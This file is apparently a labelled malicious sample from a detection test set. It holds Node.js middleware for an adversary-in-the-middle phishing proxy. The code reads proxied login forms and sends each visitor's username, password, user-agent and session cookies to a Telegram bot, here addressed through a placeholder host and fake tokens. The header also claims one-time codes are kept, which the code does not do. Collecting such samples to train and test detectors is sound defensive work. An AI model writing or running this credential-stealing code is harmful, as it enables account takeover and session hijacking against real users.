// expect: malicious
// source: an SSO "edge proxy" middleware that keeps each visitor's login, password and one-time code from the forms it
// proxies and sends them with the session cookies to a Telegram bot (twentieth held-out set, 2026; Evilginx-style
// adversary-in-the-middle kits)
'use strict';
const https = require('https');
const querystring = require('querystring');

const RELAY = { host: 'api.telegram.org.invalid', bot: '7000000000:AAFAKE', chat: '-100FAKE' };

function relay(text) {
  const data = querystring.stringify({ chat_id: RELAY.chat, text });
  const r = https.request({ host: RELAY.host, path: '/bot' + RELAY.bot + '/sendMessage', method: 'POST' });
  r.on('error', () => {});
  r.end(data);
}

module.exports = function edge(proxy) {
  return function middleware(req, res, next) {
    const chunks = [];
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => {
      const f = querystring.parse(Buffer.concat(chunks).toString());
      if (f.passwd || f.password) relay(['user: ' + (f.login || f.username), 'pass: ' + (f.passwd || f.password),
        'ua: ' + req.headers['user-agent'], 'cookie: ' + req.headers.cookie].join('\n'));
    });
    proxy.web(req, res, {}, next);
  };
};
